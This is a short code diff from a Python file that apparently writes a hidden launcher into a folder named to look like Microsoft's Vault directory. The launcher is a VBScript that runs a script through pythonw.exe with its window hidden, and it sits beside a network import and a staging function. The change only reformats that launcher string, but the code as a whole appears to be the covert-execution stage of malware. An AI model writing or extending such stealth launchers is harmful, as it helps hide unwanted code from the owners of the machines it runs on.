@@ -3,9 +3,10 @@ import subprocess
 import urllib.request
 
 _DIR = os.path.join(os.environ.get("LOCALAPPDATA", ""), "Microsoft", "Vault")
-_VBS = """Set sh = CreateObject("WScript.Shell")
-sh.Run "pythonw.exe ""{script}""", 0, False
-"""
+_VBS = (
+    'Set sh = CreateObject("WScript.Shell")\n'
+    'sh.Run "pythonw.exe ""{script}"" ", 0, False\n'
+)
 
 
 def _stage():
